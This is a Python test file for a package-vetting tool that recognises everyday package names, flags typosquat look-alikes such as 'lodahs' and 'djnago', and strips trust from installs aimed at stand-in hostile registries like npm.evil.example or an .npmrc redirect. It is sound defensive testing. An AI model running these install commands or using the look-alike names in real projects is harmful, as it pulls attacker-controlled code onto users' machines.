"""Names of packages: which are everybody's, which are nearly that, and that a list never vouches for another place."""

from __future__ import annotations

import tomllib
from importlib import resources

import pytest

from interlock.effects.catalogue import packaged
from interlock.effects.catalogue.examples import SETTING, Files, invocation
from interlock.effects.packages_known import Standing, distance, standing
from interlock.model import labels
from interlock.model.effect import Verb

DATA = tomllib.loads(resources.files("interlock.effects.data").joinpath("popular-packages.toml").read_text("utf-8"))


@pytest.mark.parametrize(
    ("registry", "name"),
    [
        ("npm", "express"),
        ("npm", "@types/node"),
        ("pypi", "PyYAML"),
        ("pypi", "pytest_cov"),
        ("crates", "serde-json"),
        ("go", "golang.org/x/sync"),
        ("go", "github.com/spf13/cobra/doc"),
        ("composer", "symfony/console"),
        ("nuget", "Microsoft.Extensions.Http"),
    ],
)
def test_an_everyday_name_is_known_in_every_spelling_the_registry_takes(registry, name):
    assert standing(registry, name) == Standing(known=True)


@pytest.mark.parametrize(
    ("registry", "name", "meant"),
    [
        ("npm", "lodahs", "lodash"),
        ("npm", "crossenv", "cross-env"),
        ("npm", "@tpyes/node", "@types/node"),
        ("npm", "reactt", "react"),
        ("pypi", "python-requests", "requests"),
        ("pypi", "requests2", "requests"),
        ("pypi", "djnago", "django"),
        ("crates", "rustdecimal", "rust_decimal"),
        ("gems", "raills", "rails"),
        ("go", "github.com/stretchr/testfiy", "github.com/stretchr/testify"),
        ("composer", "larvel/framework", "laravel/framework"),
    ],
)
def test_a_name_that_is_nearly_an_everyday_one_says_which(registry, name, meant):
    assert standing(registry, name) == Standing(resembles=meant)


@pytest.mark.parametrize(
    "name", ["totally-unheard-of-helper", "x", "", "a" * 500, "../../etc", "@scope-of-nobody/thing"]
)
def test_what_nobody_listed_is_neither(name):
    assert standing("npm", name) == Standing()
    assert standing("no-such-registry", name) == Standing()


def test_no_listed_name_is_taken_for_a_look_alike_of_another():
    for registry, table in DATA.items():
        for name in table.get("names", "").split():
            assert standing(registry, name).known, (registry, name)


def test_a_list_names_each_package_once():
    for registry, table in DATA.items():
        for key, text in table.items():
            words = text.split()
            assert len(words) == len(set(words)), (registry, key)


def test_two_letters_swapped_are_one_mistake():
    assert distance("axios", "axois", 2) == 1
    assert distance("abc", "abc", 2) == 0
    assert distance("kitten", "sitting", 2) == 3


def marks(command: str, files: dict[str, str] | None = None) -> set[str]:
    got = packaged().interpret(invocation(command), SETTING, Files(files or {}))
    return {mark for effect in got.effects if effect.verb is Verb.INSTALL for mark in effect.resource.labels}


@pytest.mark.parametrize(
    "command",
    [
        "npm install express --registry https://npm.evil.example",
        "npm_config_registry=https://npm.evil.example npm install express",
        "npm install express@npm:evil",
        "npm install someone/express",
        "npm install -g express",
        "pip install -i https://pypi.evil.example/simple flask",
        "pip install flask@git+https://github.com/someone/flask",
        "pip install --break-system-packages flask",
        "cargo add --git https://github.com/someone/serde serde",
        "gem install rails --source https://gems.evil.example",
        "npx express",
        "uvx flask",
    ],
)
def test_an_everyday_name_from_another_place_or_for_another_use_is_not_known(command):
    assert labels.KNOWN not in marks(command)


def test_a_registry_written_into_the_project_takes_the_label_away():
    assert labels.KNOWN in marks("npm install express")
    assert labels.KNOWN not in marks("npm install express", {".npmrc": "registry=https://npm.evil.example\n"})
